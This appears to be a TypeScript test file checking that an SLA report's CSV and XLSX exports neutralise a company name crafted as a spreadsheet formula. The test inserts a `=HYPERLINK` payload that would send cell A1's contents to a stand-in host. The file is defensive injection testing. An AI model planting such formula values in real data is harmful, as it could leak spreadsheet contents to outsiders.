import { randomBytes } from 'node:crypto';
import ExcelJS from 'exceljs';
import { insertCompanyQuarter } from './support/ranking-fixtures';
import { Actors } from './support/actors';
import { startApp, type TestApp } from './support/test-app';

/**
 * A property company registered as `=HYPERLINK(…)` must not become a live formula in the SLA report
 * that district staff open in Excel (issue #11). Its tickets live in 2022Q2, a quarter no other file
 * writes, so no other report sees it.
 */
describe('exports: a hostile name is text, not a formula', () => {
  let t: TestApp;
  let as: Actors;
  const tag = randomBytes(3).toString('hex');
  const evil = `=HYPERLINK("http://x.example/?"&A1,"点我${tag}")`;

  beforeAll(async () => {
    t = await startApp();
    as = new Actors(t);
    await t.db.query(
      `INSERT INTO organizations (kind, code, name, district_id) VALUES ('property_company', $1, $2, (SELECT id FROM org_units WHERE code = 'jinfeng'))`,
      [`evil-${tag}`, evil],
    );
    await insertCompanyQuarter(t.db, { tag: `ev${tag}`, company: `evil-${tag}`, compounds: ['hupanjiayuan'], start: new Date('2022-05-10T08:00:00+08:00'), count: 2, late: 0, dissatisfied: 0 });
  });
  afterAll(() => t.close());

  const download = async (format: 'csv' | 'xlsx') =>
    t.http().get(`/api/reports/sla/export?from=2022-04-01&to=2022-06-30&groupBy=company&format=${format}`)
      .set('authorization', `Bearer ${await as.token('supervisor')}`)
      .buffer(true)
      .parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      });

  it('CSV: the name is written with a leading single quote', async () => {
    const res = await download('csv');
    expect(res.status).toBe(200);
    const lines = (res.body as Buffer).toString('utf8').slice(1).split('\r\n');
    const line = lines.find((l) => l.includes(`点我${tag}`));
    expect(line).toBeDefined();
    expect(line?.startsWith(`"'=HYPERLINK(`)).toBe(true);
    expect(line?.split(',').slice(-1)[0]).not.toMatch(/^[=+\-@]/);
  });

  it('XLSX: the cell holds text starting with a quote, no formula; the figures stay numbers', async () => {
    const res = await download('xlsx');
    expect(res.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.body as unknown as ExcelJS.Buffer);
    const sheet = book.worksheets[0];
    let found: ExcelJS.Row | undefined;
    sheet.eachRow((row) => {
      if (String(row.getCell(1).value).includes(`点我${tag}`)) found = row;
    });
    expect(found).toBeDefined();
    expect(found?.getCell(1).value).toBe(`'${evil}`);
    expect(found?.getCell(1).formula).toBeUndefined();
    expect(found?.getCell(2).value).toBe(2);
  });
});
